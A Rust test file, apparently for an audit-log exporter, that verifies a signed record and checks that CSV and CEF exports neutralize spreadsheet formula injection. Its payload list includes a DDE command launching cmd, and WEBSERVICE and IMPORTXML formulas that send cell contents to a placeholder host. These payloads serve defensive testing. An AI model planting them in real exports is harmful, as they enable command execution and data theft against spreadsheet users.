//! A long record: written out for spreadsheets and SIEMs, and verified. What a cell holds is never
//! a formula, whatever was said.

use std::time::Instant;

use countersign::{
    audit::{SigningKey, Tree, Verifier, leaf, payload_hash},
    cli::audit::table,
    ports::store::{Payload, Recorded},
};
use jiff::Timestamp;
use serde_json::json;

use crate::assure::{Dice, figure, row, times};

/// Where chance begins.
const SEED: u64 = 0xE3;

/// Notes a figure of something that is not of chance, with how many a second it were here.
fn figure_at(id: &str, what: &str, tried: u32, rate: f64) {
    eprintln!("{id}: {what}: {tried} tried, 0 wrong, {rate:.0} a second");
    row(&format!("| {id} | {what} | {tried} | 0 | {rate:.0} a second |\n"));
}

fn fact(seq: u64, payload: &str) -> Recorded {
    let header = json!({
        "id": uuid::Uuid::from_u128(u128::from(seq)), "kind": "vote.cast",
        "tenant": "11111111-aaaa-4bbb-8ccc-000000000001",
        "request": uuid::Uuid::from_u128(u128::from(seq / 8)),
        "at": "2026-11-20T12:00:00Z", "digest": null,
    });
    let (salt, text) = (vec![9; 16], payload.as_bytes().to_vec());
    Recorded {
        seq,
        header: header.to_string().into_bytes(),
        payload_hash: payload_hash(&salt, &text),
        payload: Payload::Kept { salt, text },
    }
}

fn said(seq: u64) -> String {
    format!(
        "{{\"by\":{{\"name\":\"Anna Approver\",\"upn\":\"anna.approver@contoso.com\"}},\"step\":{seq},\"said\":\"=1+1, \\\"as agreed\\\"\"}}"
    )
}

#[test]
fn e3_a_long_record_is_exported_and_verified() {
    let tried = times(5_000, 1_000_000);
    let key = SigningKey::new(&[5; 32]);
    let mut tree = Tree::default();
    for seq in 0..u64::from(tried) {
        let fact = fact(seq, &said(seq));
        tree.push(leaf(&fact.header, &fact.payload_hash));
    }
    let head = key.sign(&tree, Timestamp::UNIX_EPOCH);
    let mut verifier = Verifier::new(vec![head], &key.public()).unwrap();
    let (mut verifying, mut writing) = (std::time::Duration::ZERO, std::time::Duration::ZERO);
    for seq in 0..u64::from(tried) {
        let fact = fact(seq, &said(seq));
        let begun = Instant::now();
        verifier.next(&fact).unwrap();
        verifying += begun.elapsed();
        let begun = Instant::now();
        let (row, line) = (table::csv(&fact), table::cef(&fact));
        writing += begun.elapsed();
        assert!(row.ends_with("\r\n") && line.ends_with('\n') && line.starts_with("CEF:0|"));
    }
    let begun = Instant::now();
    assert_eq!(verifier.finish().unwrap().tree.size(), u64::from(tried));
    verifying += begun.elapsed();
    let rate = |long: std::time::Duration| f64::from(tried) / long.as_secs_f64().max(1e-9);
    figure_at("E3", "facts of one record verified offline, none refused", tried, rate(verifying));
    figure_at("E3", "facts written as a row of CSV and a line of CEF", tried, rate(writing));
}

/// What opens a formula, and what it could do.
const BEGINS: [&str; 14] =
    ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\t=", "\r\n=", "\n@"];
const DOES: [&str; 8] = [
    "1+1",
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"http://x\",\"y\")",
    "WEBSERVICE(\"http://x/?\"&A1)",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "SUM(1)*1;2,3",
    "IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")",
    "\"\"",
];

/// The cells of one row, as a spreadsheet reads them (RFC 4180).
fn cells(row: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut letters = row.trim_end_matches("\r\n").chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '"' if quoted && letters.peek() == Some(&'"') => {
                letters.next();
                cell.push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => cells.push(std::mem::take(&mut cell)),
            other => cell.push(other),
        }
    }
    cells.push(cell);
    cells
}

#[test]
fn e3_nothing_that_was_said_is_a_formula() {
    let (tried, mut dice) = (times(200, 500), Dice(SEED));
    for at in 0..tried {
        let begin = BEGINS[dice.place(BEGINS.len())];
        let payload = format!("{begin}{}{}", DOES[dice.place(DOES.len())], dice.roll(1_000));
        let mut fact = fact(u64::from(at), &payload);
        // A kind and a request of somebody who writes the database, too.
        if dice.roll(3) == 0 {
            let mut header: serde_json::Value = serde_json::from_slice(&fact.header).unwrap();
            header["kind"] = json!(payload);
            fact.header = header.to_string().into_bytes();
        }
        let row = table::csv(&fact);
        let cells = cells(&row);
        assert_eq!(cells.len(), 8, "payload {at}, seed {SEED:#x}: {row}");
        for cell in &cells {
            let live =
                cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
            assert!(!live, "payload {at}, seed {SEED:#x}: {cell:?} in {row}");
        }
        let line = table::cef(&fact);
        assert_eq!(line.matches('\n').count(), 1, "payload {at}, seed {SEED:#x}: {line}");
    }
    figure("E3", "payloads that want to be formulas, none of them live in the export", tried, SEED);
}
